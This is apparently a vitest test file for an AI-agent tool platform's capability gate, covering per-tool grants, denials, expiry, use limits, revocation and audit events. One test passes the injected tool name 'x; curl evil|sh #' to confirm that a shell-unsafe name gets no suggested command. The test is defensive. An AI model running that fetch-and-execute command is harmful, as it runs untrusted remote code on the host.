import { expect, test } from 'vitest';
import { testApp } from '../../../testing/app.ts';
import { fixtureFeature } from '../../../testing/fixture.ts';

const hi = { text: 'hi' };

test('without `tool.call.<name>` a call is refused and the tool does not run; after the grant the same call goes through [capability.gate.per-tool] [capability.gate.granted] [capability.gate.echo]', async () => {
  const { developer, done, events, tool } = await testApp({ features: [fixtureFeature] });
  const ana = await developer('ana');
  const denied = await tool('echo', hi, ana);
  expect(denied.isError).toBe(true);
  expect(denied.body).toMatchObject({ status: 'error', data: { code: 'CAPABILITY_DENIED', capability: 'tool.call.echo' } });
  expect(JSON.stringify(denied.body)).not.toContain('"hi"');
  await done('capabilities.grant', { action: 'tool.call.echo', token: ana.tokenId });
  expect((await tool('echo', hi, ana)).body).toMatchObject({ content: [{ type: 'text', text: 'hi' }], isError: false });
  // This tool leaves a trace when it runs.
  await done('capabilities.revoke', { action: 'toolset.team', token: ana.tokenId });
  const change = async () => (await tool('covibe_fixture', { operation: 'change', what: 'ws_new' }, ana)).isError;
  expect([await change(), (await events({ kind: 'fixture.changed' })).length]).toEqual([true, 0]);
  await done('capabilities.grant', { action: 'tool.call.covibe_fixture', token: ana.tokenId });
  expect([await change(), (await events({ kind: 'fixture.changed' })).length]).toEqual([false, 1]);
});

test('clock is the only tool that needs no grant [capability.gate.clock-exempt]', async () => {
  const { app, developer, tool } = await testApp({ features: [fixtureFeature] });
  const nobody = await developer('ana');
  const principal = { ...nobody.principal, subjects: ['token:none'] };
  const open = [];
  for (const { name } of app.registry.tools()) {
    const { reply } = await tool(name, {}, { ...nobody, principal });
    if (reply.status === 'ok' || reply.code !== 'CAPABILITY_DENIED') open.push(name);
  }
  expect(open).toEqual(['clock']);
});

test('the gate applies to the operator like to everyone else [capability.gate.operator-too]', async () => {
  const { done, operator, tool } = await testApp();
  expect((await tool('echo', hi, operator)).reply).toMatchObject({ code: 'CAPABILITY_DENIED' });
  await done('capabilities.grant', { action: 'tool.call.echo' });
  expect((await tool('echo', hi, operator)).isError).toBe(false);
});

test('without a grant an unknown tool gets the same denial as a known one [capability.gate.before-lookup]', async () => {
  const { developer, tool } = await testApp();
  const ana = await developer('ana');
  const known = JSON.stringify((await tool('echo', hi, ana)).body);
  const unknown = JSON.stringify((await tool('nope', hi, ana)).body);
  expect(unknown).toBe(known.replaceAll('echo', 'nope'));
});

test('a caller who has the grant of a toolset, or of the tool itself, learns that the tool does not exist', async () => {
  const { developer, done, tool } = await testApp();
  const ana = await developer('ana');
  expect((await tool('covibe_nope', {}, ana)).body).toMatchObject({ status: 'error', data: { code: 'UNKNOWN_TOOL' } });
  expect((await tool('cycle.nope', {}, ana)).body).toMatchObject({ ok: false, error: { code: 'INVALID_TOOL' } });
  await done('capabilities.grant', { action: 'tool.call.nope', token: ana.tokenId });
  expect((await tool('nope', {}, ana)).body).toMatchObject({ status: 'error', data: { code: 'UNKNOWN_TOOL' } });
});

test('a denial names the missing capability and the command that grants it to this caller [capability.gate.denial-names-it]', async () => {
  const { action, developer, tool } = await testApp();
  const ana = await developer('ana', 'codex');
  const { body } = await tool('echo', hi, ana);
  const { data, feedback } = body as { data: { capability: string; command: string }; feedback: { required_action: string } };
  expect(data.capability).toBe('tool.call.echo');
  expect(feedback.required_action).toContain(data.command);
  const words = data.command.split(' ');
  expect(words.slice(0, 4)).toEqual(['covenant', 'capabilities', 'grant', 'tool.call.echo']);
  expect(words[4]).toBe('--token');
  expect((await action('capabilities.grant', { action: words[3], token: words[5] })).isError).toBe(false);
  expect((await tool('echo', hi, ana)).isError).toBe(false);
});

test("the command in a denial works in the caller's workspace, and is omitted for a name that is unsafe in a shell", async () => {
  const { app, developer, operator, tool } = await testApp();
  const zoe = await developer('zoe', undefined, 'ws_beta');
  const { data } = (await tool('echo', hi, zoe)).body as { data: { command: string } };
  expect(data.command).toBe(`covenant capabilities grant tool.call.echo --token ${zoe.tokenId} --workspace beta`);
  const granted = await app.dispatch.action({
    name: 'capabilities.grant',
    args: { action: 'tool.call.echo', token: zoe.tokenId },
    principal: operator.principal,
    surface: 'cli',
    workspace: 'beta',
  });
  expect(granted.isError).toBe(false);
  expect((await tool('echo', hi, zoe)).isError).toBe(false);
  const hostile = (await tool('x; curl evil|sh #', {}, zoe)).body as { data: { command: string | null }; feedback: { required_action: string } };
  expect(hostile.data.command).toBeNull();
  expect(hostile.feedback.required_action).not.toContain('curl');
});

test('an overlong name is denied like any other and never stored in full', async () => {
  const { developer, events, tool } = await testApp();
  const ana = await developer('ana');
  const long = 'n'.repeat(100_000);
  const { body } = await tool(long, {}, ana);
  expect(body).toMatchObject({ data: { code: 'CAPABILITY_DENIED', command: null } });
  expect(JSON.stringify(body).length).toBeLessThan(1_000);
  for (const event of await events()) expect(JSON.stringify(event).length).toBeLessThan(2_000);
});

test('a toolset grant covers the native tools of that toolset and no others [capability.gate.toolset]', async () => {
  const { developer, done, tool } = await testApp({ features: [fixtureFeature] });
  const ana = await developer('ana');
  expect((await tool('covibe_fixture', { operation: 'look' }, ana)).isError).toBe(false);
  expect((await tool('echo', hi, ana)).reply).toMatchObject({ code: 'CAPABILITY_DENIED' });
  await done('capabilities.revoke', { action: 'toolset.team', token: ana.tokenId });
  expect((await tool('covibe_fixture', { operation: 'look' }, ana)).reply).toMatchObject({ code: 'CAPABILITY_DENIED' });
});

test('actions are compared exactly [capability.gate.exact]', async () => {
  const { action, developer, done, tool } = await testApp();
  const ana = await developer('ana');
  for (const near of ['tool.call.ech', 'tool.call.echo2', 'tool.call.Echo']) await done('capabilities.grant', { action: near, token: ana.tokenId });
  expect((await tool('echo', hi, ana)).reply).toMatchObject({ code: 'CAPABILITY_DENIED' });
  for (const wild of ['tool.call.*', 'tool.*', '*', 'toolset.gateway', 'toolset.admin']) {
    expect((await action('capabilities.grant', { action: wild, token: ana.tokenId })).reply).toMatchObject({
      code: 'INVALID_INPUT',
      data: { field: 'action' },
    });
  }
});

test('a grant has a subject, an action, a scope and the person who granted it [capability.grant.shape]', async () => {
  const { action, developer, done } = await testApp();
  await developer('ana');
  const scope = { max_uses: 3, expires_at: 4_000_000_000_000, arguments: { allow: [hi] } };
  expect(await done('capabilities.grant', { action: 'tool.call.echo', developer: 'ana', scope })).toMatchObject({
    subject: expect.stringMatching(/^developer:dev_/),
    subject_name: 'ana',
    action: 'tool.call.echo',
    scope,
    granted_by: 'operator',
    status: 'live',
    uses: 0,
  });
  expect((await action('capabilities.grant', { action: 'tool.call.echo', scope: { max_usage: 1 } })).reply).toMatchObject({
    code: 'INVALID_INPUT',
    data: { field: 'scope.max_usage' },
  });
  expect((await action('capabilities.grant', { action: 'tool.call.echo', developer: 'ana', token: 'x' })).reply).toMatchObject({ code: 'INVALID_INPUT' });
});

test('a grant with `max_uses` allows that many calls and is then exhausted [capability.grant.max-uses]', async () => {
  const { developer, done, tool } = await testApp();
  const ana = await developer('ana');
  await done('capabilities.grant', { action: 'tool.call.echo', token: ana.tokenId, scope: { max_uses: 2 } });
  const outcomes = [];
  for (let i = 0; i < 3; i++) outcomes.push((await tool('echo', hi, ana)).isError);
  expect(outcomes).toEqual([false, false, true]);
  const { items } = (await done('capabilities.list', {})) as { items: { action: string; status: string; uses: number }[] };
  expect(items.find((item) => item.action === 'tool.call.echo')).toMatchObject({ status: 'exhausted', uses: 2 });
});

test('check and use are one step, so exactly one of many simultaneous calls on two servers passes a grant of one use [capability.grant.atomic-use]', async () => {
  const here = await testApp();
  const there = await testApp({ database: here.database });
  const ana = await here.developer('ana');
  await here.done('capabilities.grant', { action: 'tool.call.echo', token: ana.tokenId, scope: { max_uses: 1 } });
  const answers = await Promise.all(Array.from({ length: 20 }, (_, i) => (i % 2 ? here : there).tool('echo', hi, ana)));
  expect(answers.filter((answer) => !answer.isError)).toHaveLength(1);
});

test('the audit names the grant whose use was counted, and its revision after that use', async () => {
  const { developer, done, events, tool } = await testApp();
  const ana = await developer('ana');
  const grants = [];
  for (let i = 0; i < 2; i++)
    grants.push((await done('capabilities.grant', { action: 'tool.call.echo', token: ana.tokenId, scope: { max_uses: 1 } })).grant_id);
  const answers = await Promise.all([tool('echo', hi, ana), tool('echo', hi, ana), tool('echo', hi, ana)]);
  expect(answers.filter((answer) => !answer.isError)).toHaveLength(2);
  const checks = (await events({ kind: 'CapabilityCheck' })).filter((event) => event.payload.passed);
  const named = checks.map((event) => (event.payload.authorized_by as { grant_id: string; revision: number }[])[0]);
  expect(named.map((each) => each?.grant_id).sort()).toEqual([...grants].sort());
  expect(named.map((each) => each?.revision)).toEqual([2, 2]);
});

test('a grant with `arguments.allow` allows only calls whose whole arguments equal an entry [capability.grant.arguments-allow]', async () => {
  const { developer, done, tool } = await testApp();
  const ana = await developer('ana');
  await done('capabilities.grant', { action: 'tool.call.echo', token: ana.tokenId, scope: { arguments: { allow: [{ text: 'yes' }] } } });
  expect((await tool('echo', { text: 'yes' }, ana)).isError).toBe(false);
  const other = await tool('echo', { text: 'yes!' }, ana);
  expect(other.reply).toMatchObject({ code: 'CAPABILITY_DENIED', message: expect.stringContaining('does not allow these arguments') });
  expect((await tool('echo', { text: 'yes', more: 1 }, ana)).reply).toMatchObject({ code: 'CAPABILITY_DENIED' });
});

test('a grant is valid through the millisecond in which it expires [capability.grant.expires]', async () => {
  const { clock, developer, done, tool } = await testApp();
  const ana = await developer('ana');
  await done('capabilities.grant', { action: 'tool.call.echo', token: ana.tokenId, scope: { expires_at: clock.now() + 1_000 } });
  clock.advance(1_000);
  expect((await tool('echo', hi, ana)).isError).toBe(false);
  clock.advance(1);
  expect((await tool('echo', hi, ana)).reply).toMatchObject({ code: 'CAPABILITY_DENIED', message: expect.stringContaining('expired') });
});

test('a revoked grant allows nothing from the next call on, even if another server revoked it [capability.grant.revoked]', async () => {
  const here = await testApp();
  const there = await testApp({ database: here.database });
  const ana = await here.developer('ana');
  await here.done('capabilities.grant', { action: 'tool.call.echo', token: ana.tokenId });
  expect((await here.tool('echo', hi, ana)).isError).toBe(false);
  await there.done('capabilities.revoke', { action: 'tool.call.echo', token: ana.tokenId });
  await new Promise<void>((resolve) => setImmediate(resolve));
  expect((await here.tool('echo', hi, ana)).reply).toMatchObject({ code: 'CAPABILITY_DENIED' });
});

test('if several statuses apply to a grant, the last of live, exhausted, expired and revoked is shown [capability.grant.status-precedence]', async () => {
  const { clock, developer, done, tool } = await testApp();
  const ana = await developer('ana');
  const { grant_id } = await done('capabilities.grant', {
    action: 'tool.call.echo',
    token: ana.tokenId,
    scope: { max_uses: 1, expires_at: clock.now() + 1_000 },
  });
  const status = async () =>
    ((await done('capabilities.list', {})) as { items: { grant_id: string; status: string }[] }).items.find((item) => item.grant_id === grant_id)?.status;
  const seen = [await status()];
  await tool('echo', hi, ana);
  seen.push(await status());
  clock.advance(2_000);
  seen.push(await status());
  await done('capabilities.revoke', { grant_id });
  seen.push(await status());
  expect(seen).toEqual(['live', 'exhausted', 'expired', 'revoked']);
});

test('a grant id together with an action or a subject is refused and revokes nothing', async () => {
  const { action, developer, done } = await testApp();
  await developer('ana');
  const { grant_id } = await done('capabilities.grant', { action: 'tool.call.echo' });
  for (const beside of [{ developer: 'ana' }, { action: 'tool.call.echo' }]) {
    expect((await action('capabilities.revoke', { grant_id, ...beside })).reply).toMatchObject({ code: 'INVALID_INPUT', data: { field: 'grant_id' } });
  }
});

test('creating a token writes the grants of its profile as rows that can be listed and revoked one by one [capability.grant.token-profile]', async () => {
  const { action, done } = await testApp();
  const { token_id } = await done('tokens.create', { developer: 'ana', agent: 'codex' });
  const own = async () => {
    const { items } = (await done('capabilities.list', {})) as { items: { subject: string; action: string; status: string }[] };
    return items
      .filter((item) => item.subject === `token:${token_id}` && item.status === 'live')
      .map((item) => item.action)
      .reverse();
  };
  expect(await own()).toEqual(['toolset.team', 'toolset.workflow', 'toolset.cycle']);
  await done('capabilities.revoke', { action: 'toolset.workflow', token: token_id });
  expect(await own()).toEqual(['toolset.team', 'toolset.cycle']);
  expect((await action('capabilities.revoke', { action: 'toolset.workflow', token: token_id })).reply).toMatchObject({ code: 'GRANT_NOT_FOUND' });
});

test('every check, passed or not, is an audit event CapabilityCheck with agent_id tool:<name> [audit.check.event] [audit.check.agent-id]', async () => {
  const { developer, done, events, tool } = await testApp();
  const ana = await developer('ana');
  await tool('echo', hi, ana);
  const grant = await done('capabilities.grant', { action: 'tool.call.echo', token: ana.tokenId });
  await tool('echo', hi, ana);
  await done('capabilities.grant', { action: 'tool.call.echo', token: ana.tokenId, scope: { max_uses: 1 } });
  await done('capabilities.revoke', { grant_id: grant.grant_id });
  await tool('echo', hi, ana);
  await tool('echo', hi, ana);
  await tool('clock', {}, ana);
  const checks = await events({ category: 'audit', kind: 'CapabilityCheck' });
  expect(checks.map(({ payload }) => [payload.agent_id, payload.passed])).toEqual([
    ['tool:echo', false],
    ['tool:echo', true],
    ['tool:echo', true],
    ['tool:echo', false],
    ['tool:clock', true],
  ]);
  expect(checks[0]?.payload).toMatchObject({ required_actions: ['tool.call.echo'], missing_actions: ['tool.call.echo'], authorized_by: [] });
  expect(checks[1]?.payload).toMatchObject({ missing_actions: [], authorized_by: [{ grant_id: grant.grant_id, granted_by: 'operator' }] });
});

test('a name that reads like two actions is checked as one name', async () => {
  const t = await testApp();
  const { principal } = await t.developer('ana');
  const call = async (name: string, toolset: 'gateway' | 'workflow') =>
    (await t.app.dispatch.tool({ name, args: {}, principal, surface: 'mcp', toolsets: new Set([toolset]) })).reply;
  const real = () => call('agent_list', 'workflow');
  const lookalike = () => call('agent_list toolset.workflow', 'gateway');
  expect(await real()).toMatchObject({ status: 'ok' });
  expect(await lookalike()).toMatchObject({ code: 'CAPABILITY_DENIED' });
  // Any new grant clears the cache.
  await t.done('capabilities.grant', { action: 'tool.call.echo', developer: 'ana' });
  expect(await lookalike()).toMatchObject({ code: 'CAPABILITY_DENIED' });
  expect(await real()).toMatchObject({ status: 'ok' });
});

test('a name that the store cannot keep is denied and recorded like any other', async () => {
  const t = await testApp();
  const ana = await t.developer('ana');
  expect((await t.tool('ec\0ho', {}, ana)).reply).toMatchObject({ code: 'CAPABILITY_DENIED', next: expect.stringContaining('No tool can have this name') });
  expect((await t.events({ kind: 'CapabilityCheck' })).map(({ subject }) => subject)).toEqual(['tool:ec\uFFFDho']);
});
